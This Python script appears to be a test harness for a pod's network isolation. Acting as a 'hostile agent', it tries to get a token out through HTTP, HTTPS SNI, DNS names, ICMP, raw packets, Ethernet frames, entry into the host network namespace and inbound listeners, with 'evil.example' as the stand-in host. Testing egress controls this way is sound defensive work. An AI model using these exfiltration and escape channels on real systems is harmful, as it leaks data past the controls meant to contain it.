"""A hostile agent: reads probes, a line of JSON each, tries each as its own user, and answers with what it got.

Run in the namespace of the pod as root, so that no interpreter and no library needs to be readable for the agent; each
probe is a child that gives up root before it begins. What a probe gets decides little: what the world saw does.
"""

from __future__ import annotations

import ctypes
import json
import os
import select
import signal
import socket
import ssl
import struct
import subprocess
import sys
from collections.abc import Callable
from typing import Any

TIMEOUT = 5.0
PATIENCE = 12.0
CAPABILITIES = {"net_bind_service": 10, "net_admin": 12, "net_raw": 13}
PR_SET_KEEPCAPS, PR_SET_NO_NEW_PRIVS, PR_CAPBSET_DROP = 8, 38, 24
IPPROTO_MPTCP, IPPROTO_UDPLITE, SO_BINDTODEVICE = 262, 136, 25
libc = ctypes.CDLL(None, use_errno=True)
"x".encode("idna")  # loads what ssl wants, while it may still be read

Probe = dict[str, Any]


def give_up_root(uid: int, capabilities: list[str]) -> None:
    """Become the user, with these capabilities and no others, for good."""
    os.setgroups([])
    libc.prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)
    for number in range(41):
        if number not in {CAPABILITIES[name] for name in capabilities}:
            libc.prctl(PR_CAPBSET_DROP, number, 0, 0, 0)
    libc.prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0)
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    bits = sum(1 << CAPABILITIES[name] for name in capabilities)
    header = struct.pack("=Ii", 0x20080522, 0)
    if libc.capset(header, struct.pack("=6I", bits, bits, 0, 0, 0, 0)) != 0:
        raise OSError(ctypes.get_errno(), "capset")


def connected(probe: Probe, kind: int = 0, protocol: int = 0) -> socket.socket:
    """A TCP connection as the probe wants it."""
    family = socket.AF_INET6 if ":" in probe["to"] else socket.AF_INET
    connection = socket.socket(family, socket.SOCK_STREAM | kind, protocol)
    connection.settimeout(TIMEOUT)
    if "source_port" in probe:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        connection.bind((probe["from"], probe["source_port"]))
    if "device" in probe:
        connection.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, probe["device"].encode())
    if "mark" in probe:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, probe["mark"])
    connection.connect((probe["to"], probe["port"]))
    return connection


def request(probe: Probe) -> bytes:
    """An HTTP request that carries the token."""
    method, host = probe.get("method", "GET"), probe.get("host", "evil.example")
    target = probe.get("target", "/{token}").format(token=probe["token"])
    return f"{method} {target} HTTP/1.1\r\nhost: {host}\r\nx-token: {probe['token']}\r\n\r\n".encode()


def answer(connection: socket.socket) -> str:
    """Status and body of an HTTP answer, "closed" for a connection that ended."""
    data = b""
    while b"\r\n\r\n" not in data:
        more = connection.recv(65_536)
        if not more:
            return "closed"
        data += more
    body = data.partition(b"\r\n\r\n")[2]
    return f"{data.split()[1].decode()} {body.decode('latin-1') if len(body) == 4 else ''}".strip()


def http(probe: Probe) -> str:
    with connected(probe) as connection:
        connection.sendall(request(probe))
        return answer(connection)


def http2(probe: Probe) -> str:
    with connected(probe) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0" + probe["token"].encode())
        return "answered" if connection.recv(64) else "closed"


def https(probe: Probe) -> str:
    context = (
        ssl.create_default_context(cadata=probe["authority"])
        if "authority" in probe
        else ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    )
    context.check_hostname = False
    if "authority" not in probe:
        context.verify_mode = ssl.CERT_NONE  # whoever answers, what counts is what got there
    sni = probe.get("sni", "{token}.evil.example")
    name = sni.format(token=probe["token"]) if sni else None
    with connected(probe) as plain, context.wrap_socket(plain, server_hostname=name) as connection:
        connection.sendall(request(probe))
        return answer(connection)


def text(probe: Probe) -> str:
    """Bytes of another protocol."""
    with connected(probe) as connection:
        connection.sendall(f"SSH-2.0-{probe['token']}\r\n".encode())
        return "answered" if connection.recv(64) else "closed"


def mptcp(probe: Probe) -> str:
    with connected(probe, protocol=IPPROTO_MPTCP) as connection:
        connection.sendall(request(probe))
        return answer(connection)


def fast_open(probe: Probe) -> str:
    """Data in the very first packet."""
    with socket.socket() as connection:
        connection.settimeout(TIMEOUT)
        connection.sendto(request(probe), socket.MSG_FASTOPEN, (probe["to"], probe["port"]))
        return answer(connection)


def udp(probe: Probe) -> str:
    family = socket.AF_INET6 if ":" in probe["to"] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM, probe.get("protocol", 0)) as datagrams:
        datagrams.settimeout(TIMEOUT)
        datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if "source_port" in probe:
            datagrams.bind((probe["from"], probe["source_port"]))
        payload = probe["token"].encode() * probe.get("times", 1)
        datagrams.sendto(payload, (probe["to"], probe["port"]))
        if probe.get("sends_only"):
            return "sent"
        return "answered" if datagrams.recv(65_536) else "closed"


def name(probe: Probe) -> str:
    """A question to a name server: the addresses of the answer, or its code."""
    labels = probe["name"].format(token=probe["token"]).split(".")
    kind = {"A": 1, "AAAA": 28, "TXT": 16}[probe.get("type", "A")]
    question = b"".join(bytes([len(label)]) + label.encode() for label in labels) + struct.pack("!BHH", 0, kind, 1)
    message = struct.pack("!6H", 4711, 0x0100, 1, 0, 0, 0) + question
    if probe.get("over") == "tcp":
        with connected(probe) as connection:
            connection.sendall(struct.pack("!H", len(message)) + message)
            return "answered" if connection.recv(64) else "closed"
    family = socket.AF_INET6 if ":" in probe["to"] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(TIMEOUT)
        datagrams.sendto(message, (probe["to"], probe["port"]))
        reply = datagrams.recv(65_536)
    flags, _, answers = struct.unpack("!3H", reply[2:8])
    if reply[:12] == message[:12]:
        return "echoed"
    if not answers:
        return {0: "empty", 2: "SERVFAIL", 3: "NXDOMAIN"}.get(flags & 15, str(flags & 15))
    # nothing follows the only answer, and its address is the last of it
    return socket.inet_ntop(socket.AF_INET, reply[-4:]) if kind == 1 else socket.inet_ntop(socket.AF_INET6, reply[-16:])


def ping(probe: Probe) -> str:
    """An echo, by the socket that needs no capability; its payload is the agent's."""
    is_v6 = ":" in probe["to"]
    protocol = socket.IPPROTO_ICMPV6 if is_v6 else socket.IPPROTO_ICMP
    with socket.socket(socket.AF_INET6 if is_v6 else socket.AF_INET, socket.SOCK_DGRAM, protocol) as echo:
        echo.settimeout(TIMEOUT)
        message = struct.pack("!BBHHH", 128 if is_v6 else 8, 0, 0, 1, 1) + probe["token"].encode()
        echo.sendto(message, (probe["to"], 0))
        return "answered" if echo.recv(1024) else "closed"


def raw(probe: Probe) -> str:
    """A packet of any protocol, by a raw socket."""
    is_v6 = ":" in probe["to"]
    with socket.socket(socket.AF_INET6 if is_v6 else socket.AF_INET, socket.SOCK_RAW, probe["protocol"]) as packets:
        packets.settimeout(TIMEOUT)
        if is_v6 and "hops" in probe:
            packets.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, probe["hops"])
        packets.sendto(bytes(probe.get("head", [])) + probe["token"].encode(), (probe["to"], 0))
        return "sent"


def written(probe: Probe) -> str:
    """A packet whose IP header the agent writes itself."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as packets:
        payload = probe["token"].encode()
        datagram = struct.pack("!4H", 4444, 9999, 8 + len(payload), 0) + payload
        head = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0, b"\0" * 4, socket.inet_aton(probe["to"])
        )
        packets.sendto(head + datagram, (probe["to"], 0))
        return "sent"


def frame(probe: Probe) -> str:
    """A frame, past everything that knows the Internet protocols."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as frames:
        frames.bind((probe["device"], 0))
        kind = {"ip": 0x0800, "arp": 0x0806, "other": 0x88B5}[probe["frame"]]
        payload = probe["token"].encode()
        if probe["frame"] == "ip":
            datagram = struct.pack("!4H", 4444, 9999, 8 + len(payload), 0) + payload
            head = (0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0)
            payload = struct.pack("!BBHHHBBH4s4s", *head, b"\x0a\x4d\0\1", socket.inet_aton(probe["to"])) + datagram
        frames.send(b"\xff" * 6 + b"\2\0\0\0\0\1" + struct.pack("!H", kind) + payload)
        return "sent"


def sctp(probe: Probe) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP) as connection:
        connection.settimeout(TIMEOUT)
        connection.connect((probe["to"], probe["port"]))
        return "answered"


def unix(probe: Probe) -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(TIMEOUT)
        connection.connect(probe["to"])
        connection.sendall(request(probe))
        return answer(connection)


def program(probe: Probe) -> str:
    """A program first, then a request to where nobody may go."""
    words = [word.format(**probe) for word in probe["words"]]
    done = subprocess.run(words, capture_output=True, text=True, timeout=TIMEOUT, check=False)
    return http(probe) if done.returncode == 0 else f"refused by {words[0]}"


def namespace(probe: Probe) -> str:
    """Enter another network namespace, then ask."""
    with open("/proc/1/ns/net", "rb") as other:
        if libc.setns(other.fileno(), 0) != 0:
            raise OSError(ctypes.get_errno(), "setns")
    return http(probe)


def listen(probe: Probe) -> str:
    """Wait for somebody from outside, and tell the token."""
    with socket.create_server(("", probe["port"])) as server:
        server.settimeout(TIMEOUT)
        print(json.dumps("listening"), flush=True)
        connection, _ = server.accept()
        with connection:
            connection.sendall(probe["token"].encode())
            return "answered"


def patient(probe: Probe) -> str:
    """Connect, wait for a line, and speak then."""
    with connected(probe) as connection:
        print(json.dumps("connected"), flush=True)
        os.read(0, 64)
        connection.sendall(request(probe))
        return answer(connection)


KINDS: dict[str, Callable[[Probe], str]] = {
    function.__name__: function
    for function in (
        *(http, http2, https, text, mptcp, fast_open, udp, name, ping),
        *(raw, written, frame, sctp, unix, program, namespace, listen, patient),
    )
}


def attempt(probe: Probe) -> str:
    """What a probe got, in a word."""
    try:
        give_up_root(probe.get("uid", 10001), probe.get("capabilities", []))
        return KINDS[probe["do"]](probe)
    except TimeoutError:
        return "silence"
    except ssl.SSLError:
        return "closed"
    except (ConnectionResetError, BrokenPipeError):
        return "closed"
    except (OSError, subprocess.TimeoutExpired) as fault:
        return f"refused: {type(fault).__name__} {fault}"


def child(probe: Probe) -> str:
    """Try a probe in a child, for at most so long."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reading)
        try:
            result = attempt(probe)
        except Exception as fault:  # noqa: BLE001  # a child must not go on as its parent
            result = f"failed: {fault!r}"
        os.write(writing, result.encode())
        os._exit(0)
    os.close(writing)
    ready, _, _ = select.select([reading], [], [], PATIENCE)
    result = os.read(reading, 4096).decode() if ready else "silence"
    os.close(reading)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    return result


# unbuffered: what is for a child must not be read here already
while line := sys.stdin.buffer.raw.readline():
    print(json.dumps(child(json.loads(line))), flush=True)
